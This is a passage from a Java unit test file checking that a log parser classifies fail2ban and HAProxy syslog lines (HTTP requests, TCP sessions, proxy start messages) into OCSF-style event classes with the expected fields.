                        + " 2026-03-01 09:00:00"),
                "fail2ban");
        assertThat(line("<13>Mar  1 09:00:01 web1 myapp[1]: NOTICE  [sshd] Ban 203.0.113.9")
                        .get("class_uid")
                        .asInt())
                .isZero();
    }

    @Test
    void haproxyRequestsAreHttpActivityAndTcpSessionsNetworkActivity() throws Exception {
        // HAProxy's documented HTTP log format (option httplog), with and without captured headers
        JsonNode get = line(
                "<134>Mar  1 09:00:01 lb1 haproxy[900]: 203.0.113.9:51234 [01/Mar/2026:09:00:01.123]"
                        + " fe_https~ be_app/app1 0/0/1/12/13 200 512 - - ---- 1/1/0/0/0 0/0 \"GET /login?next=/admin HTTP/1.1\"");
        assertClass(get, 4002, 3);
        assertThat(get.at("/src_endpoint/ip").asText()).isEqualTo("203.0.113.9");
        assertThat(get.at("/src_endpoint/port").asInt()).isEqualTo(51234);
        assertThat(get.at("/http_response/code").asInt()).isEqualTo(200);
        assertThat(get.at("/http_request/url/path").asText()).isEqualTo("/login");
        assertThat(get.at("/http_request/url/query_string").asText()).isEqualTo("next=/admin");
        assertThat(get.get("duration").asInt()).isEqualTo(13);
        assertThat(get.at("/dst_endpoint/svc_name").asText()).isEqualTo("be_app");
        assertProduct(get, "HAProxy");
        JsonNode post = line("<134>Mar  1 09:00:01 lb1 haproxy[900]: 203.0.113.9:51234 [01/Mar/2026:09:00:01.123]"
                + " fe_https~ be_app/app1 0/0/1/12/13 403 212 - - PR-- 1/1/0/0/0 0/0 {Mozilla/5.0|example.com}"
                + " \"POST /api HTTP/2.0\"");
        assertClass(post, 4002, 6);
        assertThat(post.get("status_detail").asText()).isEqualTo("PR--");
        JsonNode tcp = line("<134>Mar  1 09:00:01 lb1 haproxy[900]: 10.0.0.9:40000 [01/Mar/2026:09:00:01.123] fe_db"
                + " be_db/db1 1/0/5212 1234 -- 1/1/0/0/0 0/0");
        assertClass(tcp, 4001, 2);
        assertThat(tcp.at("/traffic/bytes_out").asInt()).isEqualTo(1234);
        assertBaseEventOf(line("<134>Mar  1 09:00:01 lb1 haproxy[900]: Proxy fe_https started."), "HAProxy");
    }
}
